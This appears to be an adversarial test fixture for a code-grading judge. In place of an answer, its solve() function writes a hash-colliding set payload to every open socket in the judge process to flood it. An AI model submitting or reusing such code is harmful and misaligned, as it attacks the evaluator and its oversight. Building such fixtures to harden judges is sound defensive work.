# forge_link_hash_flood | format: humaneval | a set whose members all hash alike, built in the judge's process at its expense | expect: wrong-answer, runtime-error, time-limit, output-limit, forbidden
import os, stat, struct
u = lambda n: struct.pack("<I", n)
def text(s): return b"s" + u(len(s)) + s
def integer(n): return b"i" + u(len(b"%x" % n)) + b"%x" % n
def solve(xs):
    members = sorted(integer(n * ((1 << 61) - 1)) for n in range(1, 30_000))
    body = text(b"value") + b"S" + u(len(members)) + b"".join(members) + b"N"
    for fd in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                view = memoryview(u(len(body)) + body)
                while view: view = view[os.write(fd, view):]
        except OSError: pass
    return -1
